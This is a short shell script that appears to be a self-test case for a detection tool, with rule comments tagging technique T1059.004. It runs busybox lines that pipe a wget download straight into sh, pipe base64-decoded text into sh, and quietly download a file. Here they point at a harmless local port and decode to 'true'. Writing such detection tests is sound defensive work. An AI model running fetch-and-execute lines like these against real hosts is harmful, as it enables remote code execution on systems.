#!/bin/sh
# rule: Fetched or decoded text goes to an interpreter
# rule: Shell reads its commands from a pipe
# rule: Download that hides what it is
# technique: T1059.004
# case: a script of busybox's shell fetches for it from nobody, decodes for it, and fetches into /tmp
# needs: busybox

cd "${ATTACK_DIRECTORY:?shrike selftest runs it}" || exit
. "${0%/*}/../undo.inc"
outside
cat > script <<'END'
wget -q -T 1 -O - http://127.0.0.1:9/x | sh
echo dHJ1ZQ== | base64 -d | { sleep 0.1; sh; }
wget -q -T 1 -O "$ATTACK_DIRECTORY/x" http://127.0.0.1:9/x
true
END
busybox sh script 2> /dev/null
